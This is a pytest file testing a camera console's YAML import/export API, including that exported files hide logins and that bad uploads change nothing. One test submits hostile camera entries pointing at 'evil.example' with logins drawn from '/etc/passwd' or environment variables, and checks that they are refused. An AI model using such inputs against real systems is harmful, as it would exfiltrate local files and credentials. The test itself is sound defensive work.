from pathlib import Path

import pytest
import requests
import yaml

from shared.connections import Servers
from shared.logins import CameraKey
from shared.streams import CAMERAS
from tests.console.api.client import Client
from tests.console.api.conftest import Command
from tests.console.builders import a_camera, attach
from tests.console.cameras.builders import HIDDEN, PASSWORD, SECRET, attached_ids, opened, stored, with_key

FILE = f"""
cameras:
  gate: {{source: "{SECRET}", fps: 5, zones: [{{name: door, include: [[0.1, 0.2], [0.5, 0.2], [0.5, 0.9]]}}]}}
  hall: {{source: "http://10.0.0.8/video"}}
"""


@pytest.fixture
def key(servers: Servers, tmp_path: Path) -> CameraKey:
    return with_key(servers, tmp_path)


def text(api: Client) -> str:
    answer = api.send("GET", "/camera-file")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "application/yaml"
    assert answer.headers["content-disposition"] == 'attachment; filename="cameras.yaml"'
    return answer.text


def sent(api: Client, body: str | bytes, media_type: str = "application/yaml") -> requests.Response:
    return api.send("POST", "/camera-file", data=body, headers={"Content-Type": media_type})


def test_the_file_is_the_command_s_and_holds_no_login(
    api: Client, servers: Servers, key: CameraKey, command: Command
) -> None:
    api.post("/camera-file", {"yaml": FILE})
    command.text("camera", "set", "hall", "--login-env", "HALL_LOGIN")
    written = text(api)
    assert PASSWORD not in written
    assert written == command.text("camera", "export")
    cameras = yaml.safe_load(written)["cameras"]
    assert (cameras["gate"]["source"], cameras["hall"]["login"]) == (HIDDEN, {"env": "HALL_LOGIN"})
    assert sent(api, written).status_code == 200
    assert opened(servers, key) == SECRET


def test_no_file_of_a_producer_s_machine_can_be_sent_to_a_host_of_one_s_own(
    api: Client, servers: Servers, key: CameraKey, command: Command
) -> None:
    for place in ("{file: /etc/passwd}", "{env: PATH}"):
        answer = sent(api, f'cameras: {{spy: {{source: "rtsp://evil.example/", login: {place}}}}}')
        assert (answer.status_code, attached_ids(servers)) == (400, [])
        assert "is said on the command line only" in answer.json()["error"]
    command.text("camera", "add", "hall", "http://10.0.0.8/video", "--login-env", "HALL_LOGIN")
    moved = sent(api, 'cameras: {hall: {source: "http://evil.example/", login: {env: HALL_LOGIN}}}')
    assert moved.status_code == 400
    assert api.send("PATCH", "/cameras/hall", {"source": "http://evil.example/"}).status_code == 400
    assert stored(servers, "hall").source == "http://10.0.0.8/video"


@pytest.mark.usefixtures("key")
def test_what_became_of_each_camera_is_told_whichever_way_the_file_is_sent(api: Client, servers: Servers) -> None:
    for media_type in ("application/yaml", "text/yaml; charset=utf-8"):
        servers.state.delete(CAMERAS)
        assert sent(api, FILE, media_type).json() == {
            "cameras": [
                {"id": "gate", "outcome": "added", "said": "gate is added"},
                {"id": "hall", "outcome": "added", "said": "hall is added"},
            ]
        }
    attach(servers, a_camera("yard"))
    changed = FILE.replace("fps: 5", "fps: 2").replace(SECRET, HIDDEN)
    told = api.post("/camera-file?prune=true&dry_run=true", {"yaml": changed})["cameras"]
    assert [each["outcome"] for each in told] == ["changed", "left", "removed"]
    assert told[0]["said"] == "gate is changed: fps"
    assert (attached_ids(servers), stored(servers).fps) == (["gate", "hall", "yard"], 5)
    assert api.post("/camera-file?prune=true", {"yaml": changed})["cameras"] == told
    assert (attached_ids(servers), stored(servers).fps) == (["gate", "hall"], 2)


@pytest.mark.parametrize(
    ("code", "body", "expected"),
    [
        (400, "cameras: {gate: {source: 'demo:bare'}, hall: {source: 'demo:nobody'}}", "demo:nobody"),
        (400, "cameras: {gate: {source: 'demo:bare'}, hall: {sauce: x}}", "camera hall: unknown field sauce"),
        (400, f"cameras: {{gate: {{source: '{SECRET}', login: {{env: A}}}}}}", "there is a login in the address"),
        (400, f"cameras: {{gate: {{source: '{HIDDEN}'}}}}", "its login is hidden"),
        (400, f"cameras: [{PASSWORD}", "line 1"),
        (400, "gate", "the file begins with `cameras:`"),
        (409, f"cameras: {{gate: {{source: '{SECRET}'}}}}", "no camera key yet"),
        (422, b"\xff\xfe", "no text in utf-8"),
        (422, "", "field required"),
    ],
)
def test_a_mistake_anywhere_changes_nothing_and_shows_no_login(
    api: Client, servers: Servers, code: int, body: str | bytes, expected: str
) -> None:
    answer = sent(api, body)
    assert answer.status_code == code, answer.text
    (error,) = answer.json().values()
    assert expected in error
    assert PASSWORD not in error
    assert attached_ids(servers) == []


@pytest.mark.parametrize("body", [{"yaml": FILE, "prune": True}, {"yaml": 1}, {}, [], FILE, None])
def test_a_malformed_body_is_refused(api: Client, body: object) -> None:
    error = api.refused(422, "POST", "/camera-file", body)
    assert PASSWORD not in error


def test_cameras_of_the_names_of_commands_are_cameras_like_others(api: Client) -> None:
    names = ("export", "import", "test", "still")
    for name in names:
        api.post("/cameras", {"id": name, "source": "rtsp://10.0.0.9/"})
        assert api.get(f"/cameras/{name}")["id"] == name
        assert api.patch(f"/cameras/{name}", {"fps": 3})["fps"] == 3
    assert sorted(yaml.safe_load(text(api))["cameras"]) == sorted(names)
    for name in names:
        api.delete(f"/cameras/{name}")
    assert yaml.safe_load(text(api)) == {"cameras": {}}
